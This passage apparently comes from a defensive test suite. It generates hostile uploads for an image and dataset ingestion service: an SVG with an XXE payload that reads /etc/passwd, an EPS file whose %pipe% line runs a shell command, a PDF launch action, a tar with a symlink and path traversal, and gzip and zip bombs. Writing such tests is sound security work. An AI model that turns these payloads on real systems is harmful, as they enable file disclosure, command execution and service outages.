    """Many frames in one file."""
    frames = [Image.new("RGB", (8, 8), (number, 0, 0)) for number in range(1, 50)]
    return zip_of_one(image("WEBP", save_all=True, append_images=frames), "1.webp")


def cut(format: str, name: str) -> Build:
    def build(canary: str) -> bytes:
        noise = np.random.default_rng(0).integers(0, 255, (64, 64, 3), np.uint8)
        stream = io.BytesIO()
        Image.fromarray(noise).save(stream, format)
        return zip_of_one(stream.getvalue()[: len(stream.getvalue()) // 2], name)

    build.__name__ = f"half_a_{format.lower()}"
    build.__doc__ = "Half of an image."
    return build


for kind, file_name in (("PNG", "1.png"), ("JPEG", "1.jpg"), ("WEBP", "1.webp")):
    hostile(DATASETS)(cut(kind, file_name))


@hostile(DATASETS)
def svg_called_png(canary: str) -> bytes:
    """XML that reads a file when it is drawn."""
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return zip_of_one(entity + b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')


@hostile(DATASETS)
def eps_called_png(canary: str) -> bytes:
    """PostScript, which Pillow would hand to Ghostscript."""
    script = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n(%pipe%touch {canary}) (w) file\n%%EOF\n"
    return zip_of_one(script.encode())


@hostile(DATASETS)
def pdf_called_jpeg(canary: str) -> bytes:
    """A PDF."""
    return zip_of_one(b"%PDF-1.7\n1 0 obj << /OpenAction << /S /Launch >> >> endobj\n", "1.jpg")


@hostile(DATASETS)
def gif_called_png(canary: str) -> bytes:
    """A format that Pillow knows and we do not take."""
    return zip_of_one(image("GIF"))


@hostile(DATASETS)
def tiff_called_png(canary: str) -> bytes:
    """Another one, with decoders for a dozen compressions."""
    return zip_of_one(image("TIFF"))


@hostile(DATASETS)
def images_of_two_sizes(canary: str) -> bytes:
    """The second image has another size than the row it would be written to."""
    return zip_file({"1.png": image(), "2.png": image(size=(9, 8))})


@hostile(DATASETS, input="8x8x1")
def pixels_packed_twice(canary: str) -> bytes:
    """White sheets of 39 megapixels, compressed as images and again in the zip."""
    sheet = image("PNG", (6_200, 6_200), "1", optimize=False)
    return zip_file({f"{number}.png": sheet for number in range(40)}, zipfile.ZIP_DEFLATED)


# Archives of other kinds.


@hostile(*BOTH)
def gzip_bomb(canary: str) -> bytes:
    """A gigabyte of zeros in a gzip."""
    return b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + deflate(bytes(1 << 24)) * 8


@hostile(*BOTH)
def tar_that_climbs(canary: str) -> bytes:
    """A tar with a link and a way up."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        link = tarfile.TarInfo("here")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc"
        archive.addfile(link)
        archive.addfile(tarfile.TarInfo("../../1.png"))
    return stream.getvalue()


@hostile(*BOTH)
def zip_that_is_all_end(canary: str) -> bytes:
    """Nothing but signatures."""
    return b"PK\x03\x04" + b"PK\x05\x06" * 5000 + b"PK\x06\x07" * 5000
